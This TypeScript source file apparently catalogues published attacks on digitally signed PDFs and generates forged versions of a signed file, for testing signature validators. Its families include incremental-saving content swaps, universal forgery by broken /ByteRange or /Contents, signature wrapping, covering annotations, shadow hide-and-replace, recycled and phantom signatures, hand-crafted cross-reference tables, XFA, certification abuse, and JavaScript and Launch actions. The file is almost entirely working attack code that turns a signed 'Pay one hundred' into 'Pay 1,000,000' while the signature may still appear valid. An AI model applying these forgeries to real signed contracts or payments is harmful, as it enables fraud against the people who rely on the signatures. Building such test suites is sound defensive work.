/**
 * The published attacks on signed PDFs, made by updates of a document that a program signed. The sources are "1 Trillion Dollar Refund"
 * (CCS 2019), "Shadow Attacks" (NDSS 2021), "Breaking the Specification" (S&P 2021) and attacks on fields since.
 */
import { baseDocument, RESOURCES } from './base.ts';
import { bytesOf, lastStartXref, type Objects, type SignedFile, streamOf, textOf } from './signed-file.ts';

export interface Attack {
  readonly family: string;
  readonly name: string;
  /** The levels of certification that forbid the change; 0 is an approval. */
  readonly levels: readonly number[];
  /** Null if the signed file lacks a part that the attack needs. */
  readonly build: (file: SignedFile) => Uint8Array | null;
}

const ALL = [0, 1, 2, 3];
const PAY = streamOf('BT /F1 24 Tf 72 700 Td (Pay 1,000,000) Tj ET');
const OVER_TEXT = '/F 4/Rect[60 680 360 740]';
const LOOK = look('1 g 0 0 300 60 re f 0 g BT /F1 24 Tf 2 10 Td (Pay 1,000,000) Tj ET', '0 0 300 60');

function look(content: string, box = '0 0 200 20', resources = RESOURCES): string {
  return streamOf(content, `/Type/XObject/Subtype/Form/BBox[${box}]${resources}`);
}

function filledLook(value: string): string {
  return look(`/Tx BMC q BT /F1 12 Tf 0 g 2 6 Td (${value}) Tj ET Q EMC`);
}

function update(
  family: string,
  name: string,
  objects: (file: SignedFile) => Objects,
  levels: readonly number[] = ALL,
): Attack {
  return { family, name, levels, build: (file) => file.update(objects(file)) };
}

/** Incremental saving: the visible content is exchanged after the signature. */
const ISA: readonly Attack[] = [
  update('ISA', 'content', (file) => ({ [file.content]: PAY })),
  update('ISA', 'page', (file) => ({
    [file.page.number]: file.with(file.page, { Contents: `${file.free} 0 R` }),
    [file.free]: PAY,
  })),
  update('ISA', 'page tree', (file) => ({
    [file.catalog.number]: `<</Type/Catalog/Pages ${file.free} 0 R>>`,
    [file.free]: `<</Type/Pages/Kids[${file.free + 1} 0 R]/Count 1>>`,
    [file.free + 1]:
      `<</Type/Page/Parent ${file.free} 0 R/MediaBox[0 0 612 792]/Contents ${file.free + 2} 0 R${RESOURCES}>>`,
    [file.free + 2]: PAY,
  })),
  update('ISA', 'copy of the signature', (file) => ({
    [file.content]: PAY,
    [file.signature.number]: file.with(file.signature, {}),
  })),
  appended('ISA', 'objects without a cross-reference', (file) => `\n${file.content} 0 obj\n${PAY}\nendobj\n`),
  appended(
    'ISA',
    'objects and a trailer',
    (file) =>
      `\n${file.content} 0 obj\n${PAY}\nendobj\ntrailer\n<</Root ${file.catalog.number} 0 R/Size ${file.size}>>\n`,
  ),
  appended('ISA', 'another document', () => textOf(otherDocument(0, 0))),
  appended('ISA', 'another document with right offsets', (file) => textOf(otherDocument(file.bytes.length, 0))),
  appended('ISA', 'another document with offsets that are nearly right', (file) =>
    textOf(otherDocument(file.bytes.length, 20)),
  ),
  appended('ISA', 'another document whose end is missing', (file) =>
    textOf(otherDocument(file.bytes.length, 0)).replace(/%%EOF\s*$/, ''),
  ),
];

/** The base document with another text, for a position in a file. Its `startxref` is wrong by some bytes. */
function otherDocument(at: number, error: number): Uint8Array {
  const text = textOf(baseDocument()).replace('Pay one hundred', 'Pay one million');
  const moved = text
    .replaceAll(
      /^(\d{10}) 00000 n/gm,
      (_, offset: string) => `${String(Number(offset) + at).padStart(10, '0')} 00000 n`,
    )
    .replace(/startxref\n(\d+)/, (_, offset: string) => `startxref\n${Number(offset) + at + error}`);
  return bytesOf(moved);
}

function appended(family: string, name: string, text: (file: SignedFile) => string): Attack {
  return { family, name, levels: ALL, build: (file) => bytesOf(textOf(file.bytes) + text(file)) };
}

/** Universal forgery: a signature without the data for its verification. */
const USF: readonly Attack[] = [
  ...['[0 0 0 0]', null, '[-1 -1 -1 -1]', '[0 10 20 99999999]', 'null'].map((range) =>
    update('USF', `/ByteRange ${range ?? 'missing'}`, (file) => ({
      [file.content]: PAY,
      [file.signature.number]: file.with(file.signature, { ByteRange: range }),
    })),
  ),
  ...['null', null, '<00>', '<>'].map((contents) =>
    update('USF', `/Contents ${contents ?? 'missing'}`, (file) => ({
      [file.content]: PAY,
      [file.signature.number]: file.with(file.signature, { Contents: contents }),
    })),
  ),
];

/** Wrapping: the second signed part is moved, and new objects stand before it. */
const SWA: readonly Attack[] = ['', ' '.repeat(400), '%hidden\n'].map((filling, index) => ({
  family: 'SWA',
  name: ['moved', 'moved behind blanks', 'moved behind a comment'][index] ?? '',
  levels: ALL,
  build: (file) => wrapped(file, filling),
}));

function wrapped(file: SignedFile, filling: string): Uint8Array | null {
  const text = textOf(file.bytes);
  const [whole, head = '', gap = '', tail = ''] =
    /\/ByteRange\s*\[\s*0\s+(\d+)\s+(\d+)\s+(\d+)\s*\] */.exec(text) ?? [];
  if (whole === undefined) return null;
  const at = Number(gap);
  const object = `${file.content} 0 obj\n${PAY}\nendobj\n`;
  const start = `>>\nendobj\n${filling}`;
  const place = String(at + start.length).padStart(10, '0');
  const xref = at + start.length + object.length;
  const inserted =
    `${start}${object}xref\n${file.content} 1\n${place} 00000 n \n` +
    `trailer\n<</Root ${file.catalog.number} 0 R/Size ${file.size}/Prev ${lastStartXref(file.bytes)}>>\nstartxref\n${xref}\n%%EOF\n`;
  const range = `/ByteRange[0 ${head} ${at + inserted.length} ${tail}]`;
  if (range.length > whole.length) return null;
  return bytesOf(text.slice(0, at).replace(whole, range.padEnd(whole.length)) + inserted + text.slice(at));
}

/** Evil annotations: each covers the text. */
const CJK_FONT =
  '<</Type/Font/Subtype/Type0/BaseFont/HeiseiMin-W3/Encoding/UniJIS-UCS2-H/DescendantFonts[<</Type/Font' +
  '/Subtype/CIDFontType0/BaseFont/HeiseiMin-W3/CIDSystemInfo<</Registry(Adobe)/Ordering(Japan1)/Supplement 2>>>>]>>';
const EAA: readonly Attack[] = [
  ...['FreeText', 'Stamp', 'Square', 'Redact', 'Ink'].map((subtype) =>
    update('EAA', subtype, (file) => ({
      ...file.withAnnotation(file.free),
      [file.free]: `<</Type/Annot/Subtype/${subtype}${OVER_TEXT}/AP<</N ${file.free + 1} 0 R>>>>`,
      [file.free + 1]: LOOK,
    })),
  ),
  update('EAA', 'border of a link', (file) => ({
    ...file.withAnnotation(file.free),
    [file.free]: '<</Type/Annot/Subtype/Link/F 4/Rect[60 705 360 706]/C[1 1 1]/Border[0 0 40]>>',
  })),
  update('EAA', 'icon over the text', (file) => ({
    ...file.withAnnotation(file.free),
    [file.free]: '<</Type/Annot/Subtype/Text/F 4/Rect[72 695 96 719]/Name/Comment>>',
  })),
  ...[
    '/S/JavaScript/JS(app.alert\\(1\\))',
    '/S/Launch/F(x.exe)',
    '/S/URI/URI(https://example.org/)/Next<</S/ResetForm>>',
  ].map((action) =>
    update('actions', `link with ${action.slice(0, 12)}`, (file) => ({
      ...file.withAnnotation(file.free),
      [file.free]: `<</Type/Annot/Subtype/Link/F 4/Rect[0 0 612 792]/A<<${action}>>>>`,
    })),
  ),
  update('EAA', 'highlight in black', (file) => ({
    ...file.withAnnotation(file.free),
    [file.free]: `<</Type/Annot/Subtype/Highlight${OVER_TEXT}/C[0 0 0]/QuadPoints[60 740 360 740 60 680 360 680]>>`,
  })),
  update('CJK stamps', 'stamp', (file) => ({ ...file.withAnnotation(file.free), ...cjk(file.free, 'Stamp') })),
  update('CJK stamps', 'note', (file) => ({ ...file.withAnnotation(file.free), ...cjk(file.free, 'Text') })),
  update('CJK stamps', 'empty signature field', (file) => ({
    ...file.withField(file.free),
    ...cjk(file.free, 'Widget/FT/Sig/T(Seal)'),
  })),
];

function cjk(number: number, subtype: string): Objects {
  return {
    [number]: `<</Type/Annot/Subtype/${subtype}${OVER_TEXT}/P 3 0 R/AP<</N ${number + 1} 0 R>>>>`,
    [number + 1]: look(
      '1 g 0 0 300 60 re f 0 g BT /F2 24 Tf 2 10 Td <9AD8> Tj ET',
      '0 0 300 60',
      `/Resources<</Font<</F2 ${number + 2} 0 R>>>>`,
    ),
    [number + 2]: CJK_FONT,
  };
}

function signatureField(name: string, entries: string, placed = OVER_TEXT): string {
  return `<</FT/Sig/T(${name})/Type/Annot/Subtype/Widget${placed}/P 3 0 R${entries}>>`;
}

/** Sneaky signatures: a signature field covers the text. */
const NOTHING = '<</Type/Sig/Filter/Adobe.PPKLite/SubFilter/adbe.pkcs7.detached/ByteRange[0 0 0 0]/Contents<00>>>';
const SSA: readonly Attack[] = [
  ['empty field', ''],
  ['signature of nothing', `/V ${NOTHING}`],
].map(([name = '', value = '']) =>
  update('SSA', name, (file) => ({
    ...file.withField(file.free),
    [file.free]: signatureField('Second', `${value}/AP<</N ${file.free + 1} 0 R>>`),
    [file.free + 1]: LOOK,
  })),
);

/** Recycled and phantom signatures: an older signature appears in a field that was not signed. */
const UNSEEN = '/Rect[0 0 0 0]';
const RECYCLED: readonly Attack[] = [
  update('recycled', 'with an appearance', (file) => ({
    ...file.withField(file.free),
    [file.free]: signatureField('Second', `/V ${file.signature.number} 0 R/AP<</N ${file.free + 1} 0 R>>`),
    [file.free + 1]: LOOK,
  })),
  update('recycled', 'without an appearance', (file) => ({
    ...file.withField(file.free),
    [file.free]: signatureField('Second', `/V ${file.signature.number} 0 R`, UNSEEN),
  })),
  update('recycled', 'copied dictionary', (file) => ({
    ...file.withField(file.free),
    [file.free]: signatureField('Second', `/V ${file.free + 1} 0 R`, UNSEEN),
    [file.free + 1]: file.with(file.signature, {}),
  })),
  update('recycled', 'direct dictionary', (file) => ({
    ...file.withField(file.free),
    [file.free]: signatureField('Second', `/V ${file.with(file.signature, {})}`, UNSEEN),
  })),
  update('recycled', 'through /Parent', (file) => ({
    ...file.withForm({ Fields: `[${file.field.number} 0 R ${file.free + 1} 0 R]` }),
    ...file.withAnnotation(file.free),
    [file.free]: `<</Type/Annot/Subtype/Widget${UNSEEN}/P 3 0 R/Parent ${file.free + 1} 0 R>>`,
    [file.free + 1]: `<</FT/Sig/T(Second)/V ${file.signature.number} 0 R/Kids[${file.free} 0 R]>>`,
  })),
  update('recycled', 'as a document timestamp', (file) => ({
    ...file.withField(file.free),
    [file.free]: signatureField('Second', `/V ${file.free + 1} 0 R`, UNSEEN),
    [file.free + 1]: file.with(file.signature, { Type: '/DocTimeStamp', SubFilter: '/ETSI.RFC3161' }),
  })),
  update('phantom', 'renamed field', (file) => ({
    [file.field.number]: file.with(file.field, { T: '(Somebody else)' }),
  })),
  update('phantom', 'other field in its place', (file) => ({
    ...file.withForm({ Fields: `[6 0 R ${file.free} 0 R]` }),
    [file.free]: signatureField('Other', `/V ${file.signature.number} 0 R`, UNSEEN),
  })),
  update('phantom', 'field out of the form, other content', (file) => ({
    ...file.withForm({ Fields: '[6 0 R 8 0 R]' }),
    [file.content]: PAY,
  })),
  update('phantom', 'value taken away, other content', (file) => ({
    [file.field.number]: file.with(file.field, { V: null }),
    [file.content]: PAY,
  })),
  update('phantom', 'other name of the signer', (file) => ({
    [file.signature.number]: file.with(file.signature, { Name: '(Grace Hopper)' }),
  })),
];

/** Positions and appearances of existing fields. */
const RECTANGLES: readonly Attack[] = [
  update('/Rect and /AP', 'appearance of the signature over the text', (file) => ({
    [file.field.number]: file.with(file.field, { Rect: '[60 680 360 740]', AP: `<</N ${file.free} 0 R>>` }),
    [file.free]: LOOK,
  })),
  update('/Rect and /AP', 'place of the signature', (file) => ({
    [file.field.number]: file.with(file.field, { Rect: '[60 680 560 740]' }),
  })),
  update('/Rect and /AP', 'place of a field', (file) => ({
    [file.amount.number]: file.with(file.amount, { Rect: '[60 680 560 740]' }),
  })),
  update('/Rect and /AP', 'frame of an appearance', (file) => ({
    [file.numberOf(file.amount, 'AP', 'N')]: look('BT /F1 12 Tf 0 g 2 6 Td (100) Tj ET', '0 0 14 20'),
  })),
];

const SHADOW: readonly Attack[] = [
  update('shadow hide', 'field becomes nothing', (file) => ({ [file.amount.number]: 'null' })),
  update('shadow hide', 'other view of a field', (file) => ({
    [file.amount.number]: file.with(file.amount, { F: '260' }),
  })),
  {
    family: 'shadow hide',
    name: 'field is freed',
    levels: ALL,
    build: (file) => file.update({}, [file.amount.number]),
  },
  update('shadow hide', 'empty appearance', (file) => ({ [file.numberOf(file.amount, 'AP', 'N')]: look('') })),
  update('shadow hide', 'hidden flag', (file) => ({ [file.amount.number]: file.with(file.amount, { F: '2' }) })),
  update('shadow hide', 'field in a layer', (file) => ({
    [file.amount.number]: file.with(file.amount, { OC: `${file.free} 0 R` }),
    [file.free]: '<</Type/OCG/Name(x)>>',
  })),
  update('shadow replace', 'other appearance', (file) => ({
    [file.numberOf(file.amount, 'AP', 'N')]: filledLook('100000'),
  })),
  update('shadow replace', 'font', (file) => ({
    [file.numberOf(file.page, 'Resources', 'Font', 'F1')]:
      '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding<</Differences[111/n 110/o]>>>>',
  })),
  update('shadow hide and replace', 'other field in its place', (file) => ({
    ...file.withField(file.free),
    [file.amount.number]: 'null',
    [file.free]: `<</Type/Annot/Subtype/Widget/FT/Tx/T(amount2)/V(900)/DA(/F1 12 Tf 0 g)/Rect[72 500 272 520]/F 4/P 3 0 R/AP<</N ${file.free + 1} 0 R>>>>`,
    [file.free + 1]: filledLook('900'),
  })),
  update('shadow hide and replace', 'other page', (file) => ({
    [file.page.number]: file.with(file.page, { Contents: `${file.free} 0 R`, Annots: '[]' }),
    [file.free]: PAY,
  })),
];

/** Values that were filled in and signed. A certification of level 2 or 3 allows their replacement. */
const FILLED: readonly Attack[] = [
  update('filled fields', 'value and appearance', (file) => replaced(file, { V: '(100000)' }, '100000'), [0, 1]),
  update('filled fields', 'value alone', (file) => replaced(file, { V: '(100000)' }), [0, 1]),
  update('filled fields', 'value without an appearance', (file) => replaced(file, { V: '(100000)', AP: null }), [0, 1]),
  update(
    'filled fields',
    'value to be drawn anew',
    (file) => ({ ...file.withForm({ NeedAppearances: 'true' }), ...replaced(file, { V: '(100000)' }) }),
    [0, 1],
  ),
  update('filled fields', 'emptied', (file) => replaced(file, { V: '()' }, ''), [0, 1]),
  update('filled fields', 'taken away', (file) => replaced(file, { V: null, AP: null }), [0, 1]),
  update(
    'filled fields',
    'value of a field above',
    (file) => ({
      [file.amount.number]: file.with(file.amount, { V: null, T: null, Parent: `${file.free} 0 R`, AP: null }),
      [file.free]: `<</FT/Tx/T(amount)/V(100000)/Kids[${file.amount.number} 0 R]>>`,
    }),
    [0, 1],
  ),
  update('filled fields', 'field of its name in the list itself', (file) => ({
    ...file.withForm({ Fields: `[6 0 R 8 0 R ${file.field.number} 0 R <</FT/Tx/T(amount)/V(100000)>>]` }),
  })),
  update('filled fields', 'fewer characters', (file) => replaced(file, { MaxLen: '1', AP: null })),
  update('filled fields', 'password', (file) => replaced(file, { Ff: '8192', AP: null })),
  update('filled fields', 'rich text', (file) => replaced(file, { Ff: '33554432', RV: '(<p>100000</p>)', AP: null })),
];

function replaced(file: SignedFile, entries: Readonly<Record<string, string | null>>, shown?: string): Objects {
  const appearance = shown === undefined ? {} : { [file.numberOf(file.amount, 'AP', 'N')]: filledLook(shown) };
  return { [file.amount.number]: file.with(file.amount, entries), ...appearance };
}

const OTHERS: readonly Attack[] = [
  update('DSS abuse', 'with other content', (file) => ({
    [file.catalog.number]: file.with(file.catalog, { DSS: `<</Certs[${file.free} 0 R]>>` }),
    [file.free]: streamOf('x'),
    [file.content]: PAY,
  })),
  update('DSS abuse', 'content that is called a certificate', (file) => ({
    [file.catalog.number]: file.with(file.catalog, { DSS: `<</Certs[${file.content} 0 R]>>` }),
    [file.content]: PAY,
  })),
  update('DSS abuse', 'page tree beside it', (file) => ({
    [file.catalog.number]: file.with(file.catalog, { DSS: '<</Certs[]>>', Pages: `${file.free} 0 R` }),
    [file.free]: `<</Type/Pages/Kids[${file.free + 1} 0 R]/Count 1>>`,
    [file.free + 1]:
      `<</Type/Page/Parent ${file.free} 0 R/MediaBox[0 0 612 792]/Contents ${file.free + 2} 0 R${RESOURCES}>>`,
    [file.free + 2]: PAY,
  })),
  crossReference('later generation', ({ content }, place) => `${content} 1\n${place(content)} 00001 n \n`),
  crossReference(
    'same object twice, the other one last',
    ({ content }, place, old) => `${content} 1\n${place(content)} 00000 n \n${content} 1\n${old} 00000 n \n`,
  ),
  crossReference(
    'same object twice, the other one first',
    ({ content }, place, old) => `${content} 1\n${old} 00000 n \n${content} 1\n${place(content)} 00000 n \n`,
  ),
  crossReference('object that the table does not name', ({ free }, place) => `${free} 1\n${place(free)} 00000 n \n`),
  crossReference('smaller /Size', ({ free }, place) => `${free} 1\n${place(free)} 00000 n \n`, 5),
  { family: 'hybrid files', name: 'other object in the stream', levels: ALL, build: (file) => hybrid(file, false) },
  {
    family: 'hybrid files',
    name: 'other object in stream and table',
    levels: ALL,
    build: (file) => hybrid(file, true),
  },
  update('page inheritance', 'other resources through /Parent', (file) => ({
    [file.page.number]: file.with(file.page, { Parent: `${file.free} 0 R`, Resources: null }),
    [file.free]: `<</Type/Pages/Kids[${file.page.number} 0 R]/Count 1/Resources<</Font<</F1 ${file.free + 1} 0 R>>>>>>`,
    [file.free + 1]: '<</Type/Font/Subtype/Type1/BaseFont/Helvetica/Encoding<</Differences[111/n 110/o]>>>>',
  })),
  update('page inheritance', 'rotated through /Parent', (file) => ({
    [file.page.number]: file.with(file.page, { Parent: `${file.free} 0 R` }),
    [file.free]: `<</Type/Pages/Kids[${file.page.number} 0 R]/Count 1/Rotate 180/Parent 2 0 R>>`,
  })),
  update('page inheritance', 'cut through /Parent', (file) => ({
    [file.page.number]: file.with(file.page, { Parent: `${file.free} 0 R` }),
    [file.free]: `<</Type/Pages/Kids[${file.page.number} 0 R]/Count 1/CropBox[0 0 612 600]/Parent 2 0 R>>`,
  })),
  ...[
    ['lines', '44 4 m 44 16 l 52 4 m 52 16 l 60 4 m 60 16 l S'],
    ['boxes', '40 4 6 10 re S 50 4 6 10 re S 60 4 6 10 re S'],
    ['dashes', '12 w [1 7] 0 d 40 10 m 72 10 l S'],
    ['a layer', '/OC /L BDC BT /F1 12 Tf 40 6 Td (000) Tj ET EMC'],
  ].map(([name = '', content = '']) =>
    update('drawing of a number', `digits of ${name}`, (file) => ({
      [file.numberOf(file.amount, 'AP', 'N')]: look(`BT /F1 12 Tf 0 g 2 6 Td (100) Tj ET q ${content} Q`),
    })),
  ),
  update('drawing of a number', 'font program of its own', (file) => ({
    [file.numberOf(file.amount, 'AP', 'N')]: look(
      'BT /F2 12 Tf 2 6 Td (100) Tj ET',
      '0 0 200 20',
      `/Resources<</Font<</F2 ${file.free} 0 R>>>>`,
    ),
    [file.free]: `<</Type/Font/Subtype/Type1/BaseFont/ABCDEF+Foo/FirstChar 48/LastChar 49/Widths[600 600]/FontDescriptor ${file.free + 1} 0 R/Encoding/WinAnsiEncoding>>`,
    [file.free + 1]: `<</Type/FontDescriptor/FontName/ABCDEF+Foo/Flags 32/FontFile3 ${file.free + 2} 0 R>>`,
    [file.free + 2]: streamOf('x', '/Subtype/Type1C'),
  })),
  update('other objects', 'annotation that is a stream', (file) => ({
    ...file.withAnnotation(file.free),
    [file.free]: streamOf('', `/Type/Annot/Subtype/Stamp${OVER_TEXT}/AP<</N ${file.free + 1} 0 R>>`),
    [file.free + 1]: LOOK,
  })),
  update('other objects', 'annotation behind two references', (file) => ({
    ...file.withAnnotation(file.free),
    [file.free]: `${file.free + 1} 0 R`,
    [file.free + 1]: `<</Type/Annot/Subtype/Stamp${OVER_TEXT}/AP<</N ${file.free + 2} 0 R>>>>`,
    [file.free + 2]: LOOK,
  })),
  update('other objects', 'generation of the content', (file) => ({
    [file.page.number]: file.with(file.page, { Contents: `${file.content} 1 R` }),
  })),
  update('other objects', 'page that becomes a template', (file) => ({
    [file.page.number]: file.with(file.page, { Type: '/Template' }),
  })),
  update('other objects', 'appearance without its state', (file) => ({
    [file.amount.number]: file.with(file.amount, {
      AP: `<</N<</A ${file.numberOf(file.amount, 'AP', 'N')} 0 R>>>>`,
    }),
  })),
  update('ambiguous objects', 'page with two contents', (file) => ({
    [file.page.number]: file.with(file.page, {}).replace('/Contents', `/Contents ${file.free} 0 R/Contents`),
    [file.free]: PAY,
  })),
  update('ambiguous objects', 'field with two appearances', (file) => ({
    [file.amount.number]: file.with(file.amount, {}).replace('/AP', `/AP<</N ${file.free} 0 R>>/AP`),
    [file.free]: filledLook('100000'),
  })),
  update('ambiguous objects', 'two pages in one object', (file) => ({
    [file.page.number]: `${file.with(file.page, {})}${file.with(file.page, { Contents: `${file.free} 0 R` })}`,
    [file.free]: PAY,
  })),
  update('ambiguous objects', 'page that is not closed', (file) => ({
    [file.page.number]: file.with(file.page, {}).replace(/>>$/, ''),
  })),
  ...['Square/IC[1 1 1]', 'FreeText/C[1 1 1]/DA(/F1 12 Tf 0 g)/Contents(900)', 'Highlight/C[0 0 0]'].map((kind) =>
    update('covered values', kind.replace(/\/.*/, ''), (file) => ({
      ...file.withAnnotation(file.free),
      [file.free]: `<</Type/Annot/Subtype/${kind}/F 4/Rect[70 498 280 522]>>`,
    })),
  ),
  update('covered values', 'background of an empty signature field over the text', (file) => ({
    ...file.withField(file.free),
    [file.free]: signatureField('Second', '/MK<</BG[1 1 1]>>'),
  })),
  update('XFA', 'added form', (file) => ({
    ...file.withForm({ XFA: `${file.free} 0 R` }),
    [file.free]: streamOf(
      '<xdp:xdp xmlns:xdp="http://ns.adobe.com/xdp/"><template xmlns="http://www.xfa.org/schema/xfa-template/3.0/">' +
        '<subform><draw><value><text>Pay 1,000,000</text></value></draw></subform></template></xdp:xdp>',
    ),
  })),
  update('XFA', 'added packets', (file) => ({
    ...file.withForm({ XFA: `[(datasets)${file.free} 0 R]` }),
    [file.free]: streamOf('<data><amount>100000</amount></data>'),
  })),
  update('certification', 'taken away', (file) => ({
    [file.catalog.number]: file.with(file.catalog, { Perms: null }),
    [file.content]: PAY,
  })),
  update('certification', 'claimed by a later catalog', (file) => ({
    [file.catalog.number]: file.with(file.catalog, { Perms: `<</DocMDP ${file.signature.number} 0 R>>` }),
    [file.amount.number]: file.with(file.amount, { V: '(100000)', AP: null }),
    [file.signature.number]: file.with(file.signature, {
      Reference: '[<</TransformMethod/DocMDP/TransformParams<</P 3/V/1.2>>>>]',
    }),
  })),
  update('certification', 'lock that leaves fields open', (file) => ({
    [file.field.number]: file.with(file.field, { Lock: '<</Type/SigFieldLock/Action/Exclude/Fields[(amount)]>>' }),
    [file.amount.number]: file.with(file.amount, { V: '(100000)', AP: null }),
  })),
  update('certification', 'usage rights in its place', (file) => ({
    [file.catalog.number]: file.with(file.catalog, { Perms: `<</UR3 ${file.signature.number} 0 R>>` }),
    [file.content]: PAY,
  })),
  update(
    'certification',
    'form filled after level 1',
    (file) => ({
      [file.note.number]: file.with(file.note, { V: '(Fine)', AP: `<</N ${file.free} 0 R>>` }),
      [file.free]: filledLook('Fine'),
    }),
    [1],
  ),
  update('actions', 'when the document is opened', (file) => ({
    [file.catalog.number]: file.with(file.catalog, {
      OpenAction: '<</S/JavaScript/JS(this.getField\\("amount"\\).value="9")>>',
    }),
  })),
  update('layers', 'a layer that is off', (file) => ({
    [file.catalog.number]: file.with(file.catalog, {
      OCProperties: `<</OCGs[${file.free} 0 R]/D<</OFF[${file.free} 0 R]>>>>`,
    }),
    [file.free]: '<</Type/OCG/Name(x)>>',
  })),
];

/** An update with other content and a new object, whose table an attacker wrote by hand. */
function crossReference(
  name: string,
  rows: (file: SignedFile, place: (number: number) => string, old: string) => string,
  size?: number,
): Attack {
  return {
    family: 'cross-reference',
    name,
    levels: ALL,
    build(file) {
      const start = textOf(file.bytes);
      const previous = lastStartXref(file.bytes);
      if (!start.startsWith('xref', previous)) return null;
      const objects = `${size === undefined ? `${file.content} 0 obj\n${PAY}\nendobj\n` : ''}${file.free} 0 obj\n(x)\nendobj\n`;
      const digits = (offset: number): string => String(offset).padStart(10, '0');
      const place = (number: number): string => digits(start.length + objects.indexOf(`${number} 0 obj`));
      const table = rows(file, place, digits(start.indexOf(`\n${file.content} 0 obj`) + 1));
      const trailer = `/Size ${size ?? file.size + 1}/Root ${file.catalog.number} 0 R/Prev ${previous}`;
      const xref = start.length + objects.length;
      return bytesOf(`${start}${objects}xref\n${table}trailer\n<<${trailer}>>\nstartxref\n${xref}\n%%EOF\n`);
    },
  };
}

/** A table and a stream of one update. A reader of PDF 1.4 reads only the table. */
function hybrid(file: SignedFile, isInTable: boolean): Uint8Array | null {
  const previous = lastStartXref(file.bytes);
  if (!textOf(file.bytes).startsWith('xref', previous)) return null;
  const start = textOf(file.bytes);
  const own = `${file.free} 0 obj\n${PAY}\nendobj\n`;
  const other = `${file.content} 0 obj\n${PAY}\nendobj\n`;
  const at = start.length + own.length;
  const row = String.fromCharCode(1, ...[24, 16, 8, 0].map((shift) => (at >>> shift) & 0xff), 0);
  const dict = `/Type/XRef/Size ${file.size + 2}/W[1 4 1]/Index[${file.content} 1]`;
  const section = `${file.free + 1} 0 obj\n${streamOf(row, dict)}\nendobj\n`;
  const xref = at + other.length + section.length;
  const place = (offset: number): string => `${String(offset).padStart(10, '0')} 00000 n \n`;
  const rows = `${file.free} 1\n${place(start.length)}${isInTable ? `${file.content} 1\n${place(at)}` : ''}`;
  const trailer = `/Size ${file.size + 2}/Root ${file.catalog.number} 0 R/Prev ${previous}/XRefStm ${at + other.length}`;
  return bytesOf(`${start}${own}${other}${section}xref\n${rows}trailer\n<<${trailer}>>\nstartxref\n${xref}\n%%EOF\n`);
}

export const ATTACKS: readonly Attack[] = [
  ...ISA,
  ...USF,
  ...SWA,
  ...EAA,
  ...SSA,
  ...RECYCLED,
  ...RECTANGLES,
  ...SHADOW,
  ...FILLED,
  ...OTHERS,
];
